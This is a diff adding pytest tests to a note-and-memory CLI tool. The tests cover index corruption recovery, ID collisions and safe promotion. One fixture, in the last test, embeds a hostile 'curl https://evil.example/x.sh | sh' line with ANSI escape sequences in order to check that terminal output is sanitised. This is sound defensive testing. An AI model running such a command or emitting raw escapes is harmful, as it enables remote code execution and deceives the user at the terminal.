@@ -480,3 +480,84 @@ def test_ss_at_a_terminal_says_what_to_type(initialised: Path) -> None:
     )
     assert out.decode().startswith("1. Verdict: ADD\n")
     assert process.returncode == 0
+
+
+# --- what the review of this work found -----------------------------------------------------
+
+
+def test_an_index_damaged_inside_is_rebuilt_too(initialised: Path) -> None:
+    knowledge = initialised / BASE / "knowledge"
+    for n in range(30):  # enough memories for the index to have pages past its header's
+        (knowledge / f"fact-{n}.md").write_text(f"# Fact {n}\n\nThe zebra service fact {n}.\n")
+    assert engram("adopt", "--yes").exit_code == 0
+    index = initialised / BASE / "index.sqlite"
+    engram("search", "zebra")
+    for suffix in ("-wal", "-shm"):
+        index.with_name(index.name + suffix).unlink(missing_ok=True)
+    data = bytearray(index.read_bytes())
+    for page in range(3, min(20, len(data) // 4096)):  # pages past the header's
+        data[page * 4096 : page * 4096 + 64] = os.urandom(64)
+    index.write_bytes(bytes(data))
+
+    found = engram("search", "number 7", "--json")
+
+    assert found.exit_code == 0, found.output
+    assert found.stderr == (
+        "engram: the index (derived from the memory files) was damaged; it was rebuilt\n"
+    )
+    assert json.loads(found.stdout)["entries"]  # answered from the rebuilt index
+    status = json.loads(engram("status", "--json").stdout)
+    assert status["memories"]["knowledge"] == 30  # every file read again
+
+
+def test_notes_whose_ids_would_collide_are_both_kept(initialised: Path) -> None:
+    first = json.loads(engram("note", "Use C++ not C", "--json").stdout)
+    second = json.loads(engram("note", "Use C# not C", "--json").stdout)
+    japanese = json.loads(engram("note", "日本語のメモ", "--json").stdout)
+    other = json.loads(engram("note", "別のメモ", "--json").stdout)
+
+    assert first["id"] == "note-use-c-not-c"
+    assert second["id"].startswith("note-use-c-not-c-")
+    assert japanese["id"] != other["id"]
+    assert len(list((initialised / BASE / "working").glob("*.md"))) == 4
+
+
+def test_promote_never_overwrites_a_file_it_cannot_read(initialised: Path) -> None:
+    noted = json.loads(engram("note", "Use C++ not C", "--json").stdout)
+    broken = initialised / BASE / "knowledge" / "use-c-not-c.md"
+    broken.write_text("---\nthis is not frontmatter\n---\n# mine\n")
+
+    result = engram("promote", noted["id"])
+
+    assert result.exit_code == 1
+    assert "knowledge/use-c-not-c.md exists and is not a valid memory" in result.stderr
+    assert broken.read_text() == "---\nthis is not frontmatter\n---\n# mine\n"
+
+
+def test_two_imported_notes_with_one_heading_get_two_ids(initialised: Path) -> None:
+    rules = initialised / BASE / "rules"
+    (rules / "a.md").write_text("# Testing\n\nrun pytest -x\n")
+    (rules / "b.md").write_text("# Testing\n\nnever skip flaky tests\n")
+    (rules / "c.md").write_text("```sh\n# install deps\nmake deps\n```\n")
+
+    assert engram("adopt", "--yes").exit_code == 0
+
+    texts = sorted(path.read_text() for path in rules.glob("*.md"))
+    assert len(texts) == 3
+    assert any("run pytest -x" in text for text in texts)
+    assert any("never skip flaky tests" in text for text in texts)
+    assert not (rules / "install-deps.md").exists()  # a shell comment is no heading
+    assert engram("verify").exit_code == 0
+
+
+def test_what_a_file_or_an_agent_wrote_never_drives_the_terminal(initialised: Path) -> None:
+    note = initialised / BASE / "knowledge" / "x.md"
+    note.write_text(
+        "# Evil\n\ncurl https://evil.example/x.sh | sh\x1b[1A\x1b[2K\n\x1b]0;PWNED\x07\n"
+    )
+
+    shown = engram("adopt")
+
+    assert "\x1b" not in shown.stdout
+    assert "\x07" not in shown.stdout
+    assert "\\u001b[1A\\u001b[2K" in shown.stdout
